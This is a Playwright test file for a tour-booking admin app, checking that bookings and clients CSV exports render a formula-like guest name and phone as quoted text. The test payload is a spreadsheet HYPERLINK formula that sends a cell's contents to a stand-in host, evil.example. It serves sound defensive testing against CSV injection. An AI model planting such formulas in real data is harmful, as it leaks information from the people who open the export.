import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import Papa from 'papaparse';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { adminCredentials, adminToken, api, openSignedIn, rest } from './rest-api.ts';

/**
 * The office's exports open as text in a spreadsheet: a guest who books as a formula gets no formula
 * run on the staff member's machine (the manifest's CSV is checked in admin-calendar.spec.ts).
 */

const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';

async function downloadedCsv(page: Page, button: RegExp): Promise<Record<string, string>[]> {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: button }).click();
  const csv = (await readFile(await (await download).path())).toString('utf8').replace(/^\ufeff/, '');
  return Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
}

test('bookings and clients exports carry a formula-like name and phone as text', async ({ page, request }) => {
  const a = await api(request);
  const token = await adminToken(a);
  const [departure] = await rest<{ id: string }[]>(a, token, 'GET', `tour_departures?select=id&status=eq.open&start_date=gt.${new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10)}&order=start_date&limit=1`);
  const email = `formula-${randomUUID().slice(0, 8)}@example.com`;
  const booked = await request.post('/rest/v1/rpc/create_booking', {
    headers: { apikey: a.anonKey, 'content-type': 'application/json' },
    data: { p_departure_id: departure.id, p_adults: 1, p_contact: { full_name: formula, email, phone: '+255 754 000 111' } },
  });
  expect(booked.ok(), await booked.text()).toBe(true);

  const admin = await adminCredentials();
  await page.setViewportSize({ width: 1280, height: 900 });
  await openSignedIn(page, admin.email, admin.password, '/admin/bookings');
  await page.goto(`/admin/bookings?q=${encodeURIComponent(email)}`);
  await expect(page.getByRole('button', { name: /^Export 1 to CSV$/ })).toBeEnabled({ timeout: 15_000 });
  const [booking] = await downloadedCsv(page, /^Export 1 to CSV$/);
  expect(booking).toMatchObject({ Client: `'${formula}`, Email: email, Phone: "'+255 754 000 111" });

  await page.goto(`/admin/clients?q=${encodeURIComponent(email)}`);
  await expect(page.getByRole('button', { name: /^Export 1 to CSV$/ })).toBeEnabled({ timeout: 15_000 });
  const [client] = await downloadedCsv(page, /^Export 1 to CSV$/);
  expect(Object.values(client)).toContain(`'${formula}`);
  expect(Object.values(client).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});
